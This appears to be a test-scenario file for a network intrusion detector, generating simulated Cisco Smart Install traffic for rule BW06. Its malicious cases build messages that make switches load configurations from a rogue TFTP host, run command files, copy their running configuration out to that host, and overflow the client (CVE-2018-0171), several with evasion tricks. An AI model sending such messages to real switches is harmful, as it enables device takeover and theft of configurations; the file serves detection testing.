"""BW06: a Smart Install message commands a switch."""

from __future__ import annotations

import struct

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import HQ
from bootwarden.traffic import smart_install as smi
from bootwarden.traffic.images import filler
from bootwarden.traffic.wire import Tcp, Wire

SWITCH, ATTACKER, ADMIN, ROGUE, SERVER = "10.0.1.7", "10.0.6.66", "10.0.9.10", "10.0.6.66", "10.0.0.5"


def command(server: str | None = ROGUE, file: str | None = None, device: str = SWITCH) -> Notice:
    """The notice of one command."""
    return Notice("Smart_Install_Command", device, server, file)


def both(*notices: Notice, orders: tuple[tuple[int, str], ...]) -> dict[str, object]:
    """The same with and without a site: nothing need be declared for this detection.

    ``orders`` are what Suricata alerts on: the number of the rule in its block, and the switch.
    """
    raises = [("BW06", number, ATTACKER, switch) for number, switch in orders]
    return {"raises": raises, "plain": Expect(notices), "site": HQ, "with_site": Expect(notices)}


@scenario("BW06", "malicious", **both(command(file="my.conf"), orders=((1, SWITCH),)))  # type: ignore[arg-type]
def bw06_change_config(wire: Wire) -> None:
    """A switch is told to replace its startup configuration and to reload in a minute."""
    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
    tcp.send(smi.config(f"tftp://{ROGUE}/my.conf"))
    tcp.close()


@scenario("BW06", "malicious", **both(command(file="tar_imglist0.txt"), orders=((0, SWITCH),)))  # type: ignore[arg-type]
def bw06_upgrade_image(wire: Wire) -> None:
    """A switch is told to fetch a list of images and to install them."""
    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
    tcp.send(smi.image(f"tftp://{ROGUE}/tar_imglist0.txt"))
    tcp.close()


@scenario(
    "BW06",
    "malicious",
    **both(
        command(file="execute.txt"),
        command(file="10.0.1.8.conf", device="10.0.1.8"),
        orders=((2, SWITCH), (3, "10.0.1.8")),
    ),  # type: ignore[arg-type]
)
def bw06_execute_and_copy(wire: Wire) -> None:
    """One switch runs a file of commands, another sends its configuration away."""
    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
    tcp.send(smi.execute(f"tftp://{ROGUE}/execute.txt"))
    tcp.close()
    tcp = Tcp(wire, ATTACKER, 50787, "10.0.1.8", smi.PORT)
    tcp.send(
        smi.copy(
            "copy system:running-config flash:/config.text",
            f"copy flash:/config.text tftp://{ROGUE}/10.0.1.8.conf",
        )
    )
    tcp.close()


@scenario("BW06", "malicious", **both(command(file="evil.conf"), orders=((1, SWITCH),)))  # type: ignore[arg-type]
def bw06_split_behind_probe(wire: Wire) -> None:
    """The command follows a probe in one stream, cut into segments of seven bytes that split every field."""
    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
    tcp.send(smi.probe() + smi.config(f"tftp://{ROGUE}/evil.conf"), mss=7)
    tcp.reply(smi.probe_reply())
    tcp.close()


@scenario("BW06", "malicious", **both(command(file="evil.conf"), orders=((1, SWITCH),)))  # type: ignore[arg-type]
def bw06_wrong_length(wire: Wire) -> None:
    """The header promises far more bytes than come, and the URL stands in upper case at another offset."""
    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
    body = bytes(48) + f"TFTP://{ROGUE}/evil.conf".encode() + bytes(20)
    tcp.send(smi.message(smi.CONFIG, body, length=0x4000))
    tcp.close()


@scenario("BW06", "benign", site=HQ, with_site=Expect())
def bw06_director_keepalive(wire: Wire) -> None:
    """A client joins its director and answers probes; no command is given."""
    tcp = Tcp(wire, "10.0.0.20", 51786, SWITCH, smi.PORT)
    for _ in range(3):
        tcp.send(smi.probe())
        tcp.reply(smi.probe_reply())
        wire.wait(30)
        tcp.send(smi.message(smi.PROBE, (2).to_bytes(4, "big")))
        tcp.reply(smi.keepalive_reply())
    tcp.close()


@scenario("BW06", "benign", site=HQ, with_site=Expect())
def bw06_ephemeral_port(wire: Wire) -> None:
    """4786 is only a client's port; what the server sends it even looks like a command."""
    tcp = Tcp(wire, "10.0.2.40", smi.PORT, "93.184.216.34", 3777)
    tcp.send(b"hello" + filler(400, "app"))
    tcp.reply(smi.config("tftp://93.184.216.34/my.conf"))
    tcp.close()


@scenario("BW06", "benign", site=HQ, with_site=Expect())
def bw06_scanned_with_rubbish(wire: Wire) -> None:
    """A scanner speaks HTTP and TLS to the port, and the word tftp:// appears in it."""
    for i, data in enumerate((b"GET /tftp://x HTTP/1.0\r\n\r\n", b"\x16\x03\x01\x02\x00" + filler(512, "tls"))):
        tcp = Tcp(wire, "10.0.2.30", 50786 + i, SWITCH, smi.PORT)
        tcp.send(data)
        tcp.close()


@scenario(
    "BW06",
    "benign",
    raises=[("BW06", 1, "10.0.9.10", "10.0.1.7")],
    raises_with_site=[],
    plain=Expect((Notice("Smart_Install_Command", SWITCH, SERVER, "access.conf"),)),
    site=HQ,
    with_site=Expect(evidence=({"device": SWITCH, "server": SERVER, "verdict": "expected"},)),
)
def bw06_declared_director(wire: Wire) -> None:
    """A director among the admin hosts gives a new switch its configuration from the declared server."""
    tcp = Tcp(wire, ADMIN, 51786, SWITCH, smi.PORT)
    tcp.send(smi.config(f"tftp://{SERVER}/access.conf"))
    tcp.close()


@scenario("BW06", "malicious", **both(command(server=None), orders=((4, SWITCH),)))  # type: ignore[arg-type]
def bw06_overflow_by_discovery(wire: Wire) -> None:
    """A discovery message carries a field for which the client has no room (CVE-2018-0171)."""
    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
    tcp.send(smi.discovery(212, filler(2048, "shellcode")))
    tcp.close()


@scenario("BW06", "malicious", **both(command(server=None), orders=((4, SWITCH),)))  # type: ignore[arg-type]
def bw06_overflow_behind_another_field(wire: Wire) -> None:
    """The long field is the second, the message's length a lie, and the bytes come a few at a time."""
    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
    field = struct.pack(">II", 2, 8) + bytes(8) + struct.pack(">II", 1, 0xFFFF) + b"A" * 100
    tcp.send(smi.message(smi.DISCOVERY, field, length=24), mss=11)
    tcp.close()


CUTS = (1, 4, 9, 15, 16, 17, 100, 185)
"""Where a message of 312 bytes is cut in two: its header ends at 16, the URL begins at 180."""

CUT = {f"10.0.1.{70 + number}": cut for number, cut in enumerate(CUTS)}


@scenario(
    "BW06",
    "malicious",
    **both(
        *(command(file="evil.conf", device=switch) for switch in CUT),
        orders=tuple((1, switch) for switch in CUT),
    ),  # type: ignore[arg-type]
)
def bw06_cut_in_two(wire: Wire) -> None:
    """The same message in two segments, for each switch cut elsewhere: inside the header, behind it, in the URL."""
    for switch, cut in CUT.items():
        tcp = Tcp(wire, ATTACKER, 50786, switch, smi.PORT)
        message = smi.config(f"tftp://{ROGUE}/evil.conf")
        tcp.send(message[:cut])
        wire.wait(1)
        tcp.send(message[cut:])
        tcp.close()


@scenario(
    "BW06",
    "malicious",
    **both(
        command(file="evil.conf"),
        command(file="tar_imglist0.txt"),
        command(file="execute.txt"),
        orders=((1, SWITCH), (0, SWITCH), (2, SWITCH)),
    ),  # type: ignore[arg-type]
)
def bw06_many_in_one_segment(wire: Wire) -> None:
    """A probe, a client's acknowledgement of a command, and three commands in one segment."""
    acknowledged = smi.message(smi.CONFIG, bytes(8), sender=smi.FROM_CLIENT, version=0)
    commands = (
        smi.config(f"tftp://{ROGUE}/evil.conf"),
        smi.image(f"tftp://{ROGUE}/tar_imglist0.txt", hour=3),
        smi.execute(f"tftp://{ROGUE}/execute.txt"),
    )
    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
    tcp.send(smi.probe() + acknowledged + b"".join(commands))
    tcp.close()


@scenario("BW06", "malicious", **both(command(file="evil.conf"), orders=((1, SWITCH),)))  # type: ignore[arg-type]
def bw06_endless_length(wire: Wire) -> None:
    """The header promises four gigabytes, behind padding that belongs to no message."""
    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
    body = smi.config(f"tftp://{ROGUE}/evil.conf")[16:]
    tcp.send(bytes(37) + smi.message(smi.CONFIG, body, length=0xFFFFFFFF))
    tcp.close()


@scenario(
    "BW06",
    "malicious",
    **both(
        command(file="RUN.CFG", device="10.0.1.8"),
        command(server=None, file=None),
        orders=((3, "10.0.1.8"), (3, SWITCH)),
    ),  # type: ignore[arg-type]
)
def bw06_copy_in_other_words(wire: Wire) -> None:
    """Copy messages whose commands are in capitals, and one that names no URL."""
    for switch, order in (("10.0.1.8", f"COPY RUN TFTP://{ROGUE}/RUN.CFG"), (SWITCH, "copy nvram:x flash:y")):
        tcp = Tcp(wire, ATTACKER, 50786, switch, smi.PORT)
        tcp.send(smi.copy(order))
        tcp.close()


@scenario(
    "BW06",
    "malicious",
    **both(
        command(file="10.0.1.8.conf", device="10.0.1.8"),
        command(file="evil.conf"),
        orders=((3, "10.0.1.8"), (3, SWITCH)),
    ),  # type: ignore[arg-type]
)
def bw06_version_zero(wire: Wire) -> None:
    """Public tools write 0 for the version: a copy to a server, and, behind bytes of no message, one from there."""
    tcp = Tcp(wire, ATTACKER, 50786, "10.0.1.8", smi.PORT)
    tcp.send(smi.message(smi.PROBE, struct.pack(">II", 1, 0), version=0))
    tcp.send(smi.copy(f"copy system:running-config tftp://{ROGUE}/10.0.1.8.conf", version=0))
    tcp.close()
    tcp = Tcp(wire, ATTACKER, 50787, SWITCH, smi.PORT)
    tcp.send(b"\xff" * 21 + smi.copy(f"copy tftp://{ROGUE}/evil.conf system:running-config", version=0))
    tcp.close()


@scenario("BW06", "malicious", **both(command(file="evil.conf"), orders=((6, SWITCH),)))  # type: ignore[arg-type]
def bw06_client_calls_director(wire: Wire) -> None:
    """A switch connects to what it takes for its director, which answers with a command."""
    tcp = Tcp(wire, SWITCH, 50786, ATTACKER, smi.PORT)
    tcp.send(smi.probe_reply())
    tcp.reply(smi.config(f"tftp://{ROGUE}/evil.conf"))
    tcp.close()


@scenario("BW06", "benign", site=HQ, with_site=Expect(evidence=()))
def bw06_discovery(wire: Wire) -> None:
    """A director discovers a client, whose acknowledgements have the types of commands."""
    tcp = Tcp(wire, "10.0.0.20", 51786, SWITCH, smi.PORT)
    tcp.send(smi.discovery() + smi.discovery(12, struct.pack(">II", 2, 64) + bytes(64)))
    for kind in (smi.IMAGE, smi.CONFIG, smi.EXECUTE, smi.DISCOVERY, smi.COPY):
        tcp.reply(smi.message(kind, struct.pack(">II", 1, 0), sender=smi.FROM_CLIENT, version=0))
    tcp.close()


@scenario(
    "BW06",
    "malicious",
    plain=Expect((command(None, "x.conf"),)),
    raises=[("BW06", 1, ATTACKER, SWITCH)],
    site=HQ,
    with_site=Expect((command(None, "x.conf"),)),
)
def bw06_file_on_the_switch(wire: Wire) -> None:
    """A switch is told to take for its configuration a file that was put on it before."""
    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
    tcp.send(smi.config("flash:/x.conf"))
    tcp.close()
